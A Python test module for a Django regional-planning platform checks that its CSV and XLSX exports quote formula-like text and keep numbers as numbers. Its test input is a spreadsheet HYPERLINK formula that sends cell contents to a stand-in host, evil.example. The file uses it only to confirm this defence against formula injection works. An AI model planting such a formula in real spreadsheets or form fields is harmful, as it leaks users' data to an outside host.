"""No export hands a spreadsheet a formula: text that starts like one is quoted and stored as text.

Each export is downloaded by the role that may download it, with a hostile text where people type
text; the CSV cell must start with "'=", the XLSX cell must be a string starting with "'", and a
number beside it must still be a number.
"""

from __future__ import annotations

import datetime
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from openpyxl.workbook.workbook import Workbook

from smartregion.accounts.models import User
from smartregion.regions.models import Municipality, Organisation, Region
from tests.platform import export_cases
from tests.platform.export_cases import NUMBER, fetch

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


@pytest.fixture(autouse=True)
def _quiet_tasks(settings: Any) -> None:
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}
    settings.REQUIRE_MFA_FOR_COORDINATORS = False


def _starts_with(value: str, text: str) -> bool:
    """Whether ``value`` is ``text`` or begins with it, quoted or not."""
    return value.removeprefix("'").startswith(text)


def _csv_cells(rows: list[list[str]], text: str) -> list[str]:
    return [cell for row in rows for cell in row if _starts_with(cell, text)]


def _xlsx_cells(workbook: Workbook, text: str) -> list[Any]:
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and _starts_with(cell.value, text)
    ]


def _assert_quoted_csv(rows: list[list[str]], text: str = HOSTILE) -> None:
    cells = _csv_cells(rows, text)
    assert cells, "the text is in the file"
    assert all(cell.startswith("'" + text[0]) for cell in cells), cells


def _assert_text_xlsx(workbook: Workbook, text: str = HOSTILE) -> None:
    cells = _xlsx_cells(workbook, text)
    assert cells, "the text is in the file"
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.data_type)
        assert cell.value.startswith("'" + text[0]), (cell.coordinate, cell.value)


def test_survey_answer_export_quotes_a_citizens_formula(
    steinfurt: Region, coordinator: User, login: Callable[[User], Client]
) -> None:
    survey = export_cases.open_survey(steinfurt)
    answers_csv, answers_xlsx, _codebook, _pdf = export_cases.survey_with(survey, HOSTILE)
    client = login(coordinator)

    rows = fetch(client, answers_csv)
    _assert_quoted_csv(rows)
    assert rows[1][3] == str(NUMBER)

    workbook = fetch(client, answers_xlsx)
    _assert_text_xlsx(workbook)
    number = workbook["Antworten"]["D2"]
    assert (number.data_type, number.value) == ("n", NUMBER)


def test_survey_codebook_quotes_a_question_that_looks_like_a_formula(
    steinfurt: Region, coordinator: User, login: Callable[[User], Client]
) -> None:
    survey = export_cases.open_survey(steinfurt)
    survey.questions.filter(text="Wünsche").update(text=HOSTILE)
    _csv, _xlsx, codebook, _pdf = export_cases.survey_with(survey, "Mehr online.")

    _assert_quoted_csv(fetch(login(coordinator), codebook))


def test_needs_analysis_export_quotes_an_officers_comment(
    steinfurt: Region, greven: Municipality, coordinator: User, login: Callable[[User], Client]
) -> None:
    analysis_round = export_cases.open_round(steinfurt, greven)
    answers_xlsx, _pdf = export_cases.round_with(analysis_round, HOSTILE)

    workbook = fetch(login(coordinator), answers_xlsx)

    _assert_text_xlsx(workbook)
    assert {cell.parent.title for cell in _xlsx_cells(workbook, HOSTILE)} == {"Antworten", "Freitext"}
    value = workbook["Antworten"]["E2"]
    assert (value.data_type, value.value) == ("n", 4)


def test_project_exports_and_template_quote_formulas(
    steinfurt: Region,
    smart_region_office: Organisation,
    coordinator: User,
    login: Callable[[User], Client],
    client: Client,
) -> None:
    smart_region_office.name = HOSTILE
    smart_region_office.save()
    export_csv, export_xlsx, template, *_sheets = export_cases.project_with(
        steinfurt, HOSTILE, smart_region_office
    )

    _assert_quoted_csv(fetch(client, export_csv))  # the project list is public
    workbook = fetch(client, export_xlsx)
    _assert_text_xlsx(workbook)
    header = [cell.value for cell in workbook["Projekte"][1]]
    start = workbook["Projekte"][2][header.index("Beginn")]
    assert (start.is_date, start.value) == (True, datetime.datetime(2026, 3, 1))  # noqa: DTZ001
    assert workbook["Projekte"][2][0].value.startswith("Projekt 0 =HYPERLINK")
    template_book = fetch(login(coordinator), template)
    _assert_text_xlsx(template_book)
    assert {cell.parent.title for cell in _xlsx_cells(template_book, HOSTILE)} == {"Projekte", "Auswahlwerte"}


def test_roadmap_workbooks_quote_formulas_and_keep_amounts_as_numbers(
    steinfurt: Region, smart_region_office: Organisation, coordinator: User, login: Callable[[User], Client]
) -> None:
    smart_region_office.name = HOSTILE
    smart_region_office.save()
    _pdf, financing, personnel = export_cases.roadmap_with(steinfurt, HOSTILE, smart_region_office)
    client = login(coordinator)

    financing_book = fetch(client, financing)
    _assert_text_xlsx(financing_book)
    sources = financing_book["Quellen"]
    assert sources[2][4].value == 12  # the amount stays a number
    personnel_book = fetch(client, personnel)
    _assert_text_xlsx(personnel_book)
    assert personnel_book["Personal"][2][2].value == 1


def test_participant_export_quotes_a_name_that_looks_like_a_formula(
    steinfurt: Region, coordinator: User, login: Callable[[User], Client]
) -> None:
    event = export_cases.open_event(steinfurt)
    participants_csv, participants_xlsx, _pdf = export_cases.event_with(event, HOSTILE, coordinator)
    client = login(coordinator)

    rows = fetch(client, participants_csv)
    _assert_quoted_csv(rows)
    assert rows[1][1] == "'" + HOSTILE

    workbook = fetch(client, participants_xlsx)
    _assert_text_xlsx(workbook)
    number = workbook.active["A2"]
    assert (number.data_type, number.value) == ("n", 1)
